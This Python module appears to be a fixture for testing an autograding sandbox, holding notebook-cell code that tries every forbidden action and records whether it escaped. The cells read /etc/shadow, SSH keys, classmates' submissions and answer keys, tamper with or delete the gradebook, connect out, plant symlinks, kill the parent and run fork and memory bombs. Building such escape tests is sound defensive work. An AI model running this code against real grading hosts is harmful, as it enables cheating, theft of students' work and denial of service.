"""Kernel-side code for the sandbox tests: every forbidden action, tried and recorded.

``ATTEMPTS`` runs in an answer cell. Each attempt is recorded as ``results[name] = {"ok": bool,
"detail": str}`` ("ok" means the action SUCCEEDED), written to ``attempts.json`` in the kernel's own
working folder (read back, as attempt ``own-folder-record``) and printed, one
``ATTEMPT <name> <ESCAPED|BLOCKED> <detail>`` line each and all as one ``ATTEMPTS-JSON`` line: the
tests read the outcome from the autograded notebook (the folder itself may be a private copy).

``SIGNALS`` runs in a later cell (it may stop the kernel); ``LINKS`` and ``HOG_CELLS`` are
separate students. Data (course root, names, the host port listening for a connection) comes from
``payloads.PRELUDE``.
"""

ATTEMPTS = r"""
import json, os, socket, sys, time
_R = {}
root, A, victim = _CHEAT["root"], _CHEAT["assignment"], _CHEAT["victim"]

def _try(name, action):
    t = time.time()
    try:
        detail = action()
        _R[name] = {"ok": True, "detail": repr(detail)[:300], "seconds": round(time.time() - t, 2),
                    "value": detail if isinstance(detail, (list, dict, str, int)) else None}
    except BaseException as err:  # noqa
        _R[name] = {"ok": False, "detail": f"{type(err).__name__}: {err}"[:300],
                    "seconds": round(time.time() - t, 2)}

def _read(path):
    with open(path, "rb") as f:
        return f.read(200)

def _write(path):
    with open(path, "ab") as f:
        f.write(b"PWNED by the attacker\n")
    return "written"

nb = f"{A}.ipynb"
_try("cwd", os.getcwd)  # where the grader ran this notebook: the one host folder it may see
# Relative paths climb from there to the course root, wherever the grader put the notebook.
up = os.path.relpath(root, os.getcwd())
reads = {
    "read-submitted-abs": f"{root}/submitted/{victim}/{A}/{nb}",
    "read-submitted-rel": f"{up}/submitted/{victim}/{A}/{nb}",
    "read-secret-abs": f"{root}/submitted/{victim}/{A}/secret.txt",
    "read-autograded-abs": f"{root}/autograded/{victim}/{A}/{nb}",
    "read-autograded-rel": f"{up}/autograded/{victim}/{A}/{nb}",
    "read-batch-neighbour-rel": f"../../../{victim}/{victim}/{A}/{nb}",  # the next student's copy
    "read-feedback-abs": f"{root}/feedback/{victim}/{A}/{A}.html",
    "read-feedback-rel": f"{up}/feedback/{victim}/{A}/{A}.html",
    "read-source-abs": f"{root}/source/{A}/{nb}",
    "read-source-rel": f"{up}/source/{A}/{nb}",
    "read-gradebook-abs": f"{root}/gradebook.db",
    "read-gradebook-rel": f"{up}/gradebook.db",
    "read-config": f"{root}/nbgrader_config.py",
    # Each student's staged and graded copies (one folder per student, named after them).
    "read-staging": f"{root}/.grading/staging/{victim}/{victim}/{A}/{nb}",
    "read-graded": f"{root}/.grading/graded/{victim}/{victim}/{A}/{nb}",
    "read-etc-passwd": "/etc/passwd",
    "read-etc-shadow": "/etc/shadow",
    "read-ssh-key": "/root/.ssh/id_rsa",
    "read-host-home-bashrc": f"{_CHEAT['home']}/.bashrc",
}
for name, path in reads.items():
    _try(name, lambda p=path: _read(p))

for top in ("/root", "/home", "/work", "/etc", "/srv", "/var", "/mnt", "/media", "/opt", "/boot", "/run",
            "/sys", _CHEAT["home"], root, f"{root}/submitted", f"{root}/source", up, "../.."):
    _try("list " + top, lambda t=top: sorted(os.listdir(t)))

_try("delete-gradebook", lambda: os.remove(f"{root}/gradebook.db"))
_try("delete-gradebook-rel", lambda: os.remove(f"{up}/gradebook.db"))

# Writes last: where the course root's path exists in the sandbox, it is a private tmpfs.
writes = {
    "write-gradebook": f"{root}/gradebook.db",
    "write-victim-submitted": f"{root}/submitted/{victim}/{A}/{nb}",
    "write-victim-autograded": f"{root}/autograded/{victim}/{A}/{nb}",
    "write-victim-autograded-rel": f"{up}/autograded/{victim}/{A}/{nb}",
    "write-batch-neighbour-rel": f"../../../{victim}/{victim}/{A}/{nb}",
    "write-source": f"{root}/source/{A}/{nb}",
    "write-course-root": f"{root}/evil.txt",
    "write-package": _CHEAT["package_init"],
}
for name, path in writes.items():
    _try(name, lambda p=path: _write(p))
_try("hardlink-package", lambda: os.link(_CHEAT["package_init"], "hardlink.py"))

def _tcp(host, port, timeout=3):
    s = socket.create_connection((host, port), timeout=timeout)
    s.sendall(b"hello from the sandbox")
    s.close()
    return "connected"

_try("tcp-host-listener", lambda: _tcp("127.0.0.1", _CHEAT["port"]))
_try("tcp-host-listener-ipv6", lambda: _tcp("::1", _CHEAT["port"]))
_try("tcp-external", lambda: _tcp("1.1.1.1", 53))
_try("tcp-external-2", lambda: _tcp("8.8.8.8", 443))
_try("dns-lookup", lambda: socket.getaddrinfo("example.com", 80))
_try("dns-lookup-2", lambda: socket.gethostbyname("pypi.org"))
_try("udp-dns", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))

def _procs():
    out = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    out[pid] = f.read().replace(b"\0", b" ").decode(errors="replace")[:120]
            except OSError as err:
                out[pid] = f"unreadable: {err}"
    return out
def _alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except ProcessLookupError:
        return False
    except PermissionError:
        return True

_try("proc-list", _procs)
def _tgid(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            return int(next(l for l in f if l.startswith("Tgid:")).split()[1])
    except (OSError, StopIteration):
        return None

# Signal 0 reaches threads too: count only processes that are neither this kernel nor the sandbox's
# own init (pid 1).
_try("proc-host-pids", lambda: [p for p in range(2, 5000) if _alive(p) and _tgid(p) not in (1, os.getpid())])
_try("controlling-tty", lambda: os.open("/dev/tty", os.O_RDWR))


# What the submission may do: its own folder, the course package.
_try("own-folder-write", lambda: (open("mine.txt", "w").write("mine"), open("mine.txt").read())[1])
_try("own-folder-list", lambda: sorted(os.listdir(".")))
_try("import-package", lambda: __import__("mlops_concepts").__name__)
_try("tmp-write", lambda: (open("/tmp/scratch.txt", "w").write("x"), "ok")[1])

with open("attempts.json", "w") as f:
    json.dump(_R, f, indent=1)
_try("own-folder-record", lambda: len(json.load(open("attempts.json"))))
for name, r in _R.items():
    print("ATTEMPT " + name + (" ESCAPED " if r["ok"] else " BLOCKED ") + r["detail"].replace("\n", " ")[:200])
print("ATTEMPTS-JSON " + json.dumps(_R))
"""

SIGNALS = r"""
import os, signal, json, sys, time
_S = {}
for name, sig in (("ppid-sigterm", signal.SIGTERM), ("ppid-sigkill", signal.SIGKILL)):
    target = os.getppid()
    try:
        os.kill(target, sig)
        _S[name] = {"ok": True, "detail": f"sent to pid {target}"}
    except BaseException as err:
        _S[name] = {"ok": False, "detail": f"{type(err).__name__}: {err}"}
try:
    os.kill(-1, 0)  # anyone we may signal at all?
    _S["signal-all"] = {"ok": True, "detail": "kill(-1, 0) allowed (own namespace only if sandboxed)"}
except BaseException as err:
    _S["signal-all"] = {"ok": False, "detail": repr(err)}
time.sleep(1)
# Leave a daemon behind, named by a token the host can look for: it must not outlive the grading.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", _CHEAT["token"]])
    os._exit(0)
time.sleep(1)
_seen = []
for _pid in os.listdir("/proc"):
    try:
        if _pid.isdigit() and _CHEAT["token"].encode() in open(f"/proc/{_pid}/cmdline", "rb").read():
            _seen.append(_pid)
    except OSError:
        pass
print("DAEMON-STARTED", bool(_seen))
with open("signals.json", "w") as f:
    json.dump(_S, f)
for name, r in _S.items():
    print("SIGNAL", name, r["detail"])
print("STILL-ALIVE after signalling the parent", os.getpid(), os.getppid())
"""

LINKS = r"""
import os
root, A, victim = _CHEAT["root"], _CHEAT["assignment"], _CHEAT["victim"]
links = {
    "answers.txt": f"{root}/source/{A}/{A}.ipynb",
    "stolen.txt": f"{root}/submitted/{victim}/{A}/secret.txt",
    "canary.txt": f"{root}/canary-read.txt",
    "gradebook-copy.db": f"{root}/gradebook.db",
}
for name, target in links.items():
    os.symlink(target, name)
# The notebook nbgrader will write back after execution: make it point at a host file.
os.remove(f"{A}.ipynb")
os.symlink(f"{root}/canary-write.txt", f"{A}.ipynb")
print("LINKS", sorted(os.listdir(".")))
"""

# Three cells, each within the sandbox test's cell timeout, each printing ``HOG <measure> <value>``.
HOG_CELLS = [
    r"""
import os, time
# Memory: three processes of 800 MiB each (the limit is per process). Each child touches its
# block, then counts the siblings that hold theirs at the same time (alive, block touched), so a
# child stopped for memory is never counted. Near the limit the kernel may take most of a minute
# to stop one: the sandbox test gives this cell a longer timeout.
def holders():
    alive = 0
    for k in range(3):
        try:
            pid = open(f"holding{k}").read()
            alive += open(f"/proc/{pid}/stat").read().split()[2] != "Z"
        except (OSError, ValueError):
            pass
    return alive

status = dict(line.split(":", 1) for line in open("/proc/self/status"))
print("HOG parent-rss", status["VmRSS"].strip())
started = time.time()
pids = []
for i in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(800 * 2**20)
            for j in range(0, len(block), 4096):
                block[j] = 1
            open(f"holding{i}", "w").write(str(os.getpid()))
            seen, deadline = holders(), time.time() + 10
            while time.time() < deadline and seen < 3:
                time.sleep(0.1)
                seen = max(seen, holders())
            open(f"seen{i}", "w").write(str(seen))
        finally:
            os._exit(0)
    pids.append(pid)
for pid in pids:
    os.waitpid(pid, 0)
seen = [int(open(f"seen{i}").read()) for i in range(3) if os.path.exists(f"seen{i}")]
print("HOG memory-seconds", round(time.time() - started))
print("HOG memory-mib-held-at-once", 800 * max(seen, default=0))
""",
    r"""
import os
# Memory again: /tmp is a tmpfs, i.e. RAM, and not counted by RLIMIT_AS.
written = 0
try:
    for i in range(11):
        with open(f"/tmp/fill{i}", "wb") as f:
            f.write(b"z" * (200 * 2**20))
        written += 200
except OSError as err:
    print("HOG tmpfs-error", repr(err))
for i in range(11):
    if os.path.exists(f"/tmp/fill{i}"):
        os.remove(f"/tmp/fill{i}")
print("HOG tmpfs-mib", written)
""",
    r"""
import os, time, resource
# Processes: how many can this submission run at once?
children = []
try:
    for i in range(1100):
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children.append(pid)
except OSError as err:
    print("HOG fork-error", repr(err))
for pid in children:
    os.waitpid(pid, 0)
print("HOG processes-at-once", len(children))
print("HOG rlimit-nproc", resource.getrlimit(resource.RLIMIT_NPROC)[0])
""",
]
